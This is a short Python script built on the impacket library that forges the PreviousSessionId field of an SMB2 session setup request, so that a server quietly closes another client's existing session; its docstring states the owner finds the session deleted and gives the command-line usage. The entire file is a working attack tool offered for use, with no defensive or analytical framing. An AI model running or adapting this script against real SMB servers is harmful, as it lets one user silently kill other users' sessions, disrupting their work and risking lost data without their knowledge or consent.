"""A client that claims to be the one that had a session before: usage: take_session.py ADDRESS USER PASSWORD SESSION_ID

By PreviousSessionId (MS-SMB2 2.2.5) the server closes that session, which it tells nobody: its owner finds it deleted.
"""
import sys

from impacket import smb3structs
from impacket.smbconnection import SMBConnection

address, user, password, session = sys.argv[1:]
smb3structs.SMB2SessionSetup.structure = tuple(
    (name, f"<Q={int(session, 16)}" if name == "PreviousSessionId" else form, *more)
    for name, form, *more in smb3structs.SMB2SessionSetup.structure
)
connection = SMBConnection(address, address, preferredDialect=smb3structs.SMB2_DIALECT_30)
connection.login(user, password)
connection.logoff()
